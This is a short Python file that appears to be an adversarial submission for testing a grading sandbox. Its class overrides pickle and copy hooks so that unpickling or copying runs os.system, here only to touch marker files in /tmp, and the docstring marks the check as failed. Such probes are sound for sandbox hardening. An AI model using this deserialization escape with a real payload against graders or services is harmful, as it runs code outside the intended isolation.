"""Returns objects that, unpickled or copied, run code of the student's.

Must: never be unpickled; no code of the student's runs outside.
Verdict: failed
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/ESCAPE_BY_PICKLE",)

    __reduce_ex__ = lambda self, version: self.__reduce__()
    __deepcopy__ = __copy__ = lambda self, *a: os.system("touch /tmp/ESCAPE_BY_COPY")


def double(x):
    return [Bomb(), pickle.dumps(Bomb())]
